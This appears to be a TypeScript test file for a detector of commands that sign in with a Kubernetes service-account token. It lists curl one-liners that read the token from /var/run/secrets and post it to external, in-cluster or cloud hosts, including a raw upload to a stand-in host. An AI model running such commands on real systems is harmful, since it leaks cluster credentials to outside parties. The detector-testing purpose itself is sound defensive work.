import { indicatorTable, script, UNSEEN } from '../testing.ts';
import { commandTokenSignIn } from './token-sign-in.ts';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

indicatorTable(commandTokenSignIn, {
  fires: {
    'the sign-in of Vault at an outside host': script(
      `curl -s -d "{\\"role\\":\\"a\\",\\"jwt\\":\\"$(cat ${TOKEN})\\"}" https://vault.example.com/v1/auth/kubernetes/login`,
    ),
    'with a namespace in front': script(
      `J=$(cat ${TOKEN}); curl --data "{\\"jwt\\":\\"$J\\"}" https://vault.example.com/v1/team/auth/jwt/login`,
    ),
  },
  staysSilent: {
    'a Vault inside the cluster': script(
      `curl -d "{\\"jwt\\":\\"$(cat ${TOKEN})\\"}" https://vault.vault.svc:8200/v1/auth/kubernetes/login`,
    ),
    'another path, which is no sign-in': script(`curl -d "$(cat ${TOKEN})" https://vault.example.com/v1/upload`),
    'without encryption it is no sign-in either': script(
      `curl -d "$(cat ${TOKEN})" http://vault.example.com/v1/auth/kubernetes/login`,
    ),
    'a token service of a cloud': script(
      `curl -d "WebIdentityToken=$(cat ${TOKEN})" "https://sts.eu-west-1.amazonaws.com/?Action=AssumeRoleWithWebIdentity"`,
    ),
  },
  cannotTell: UNSEEN,
});
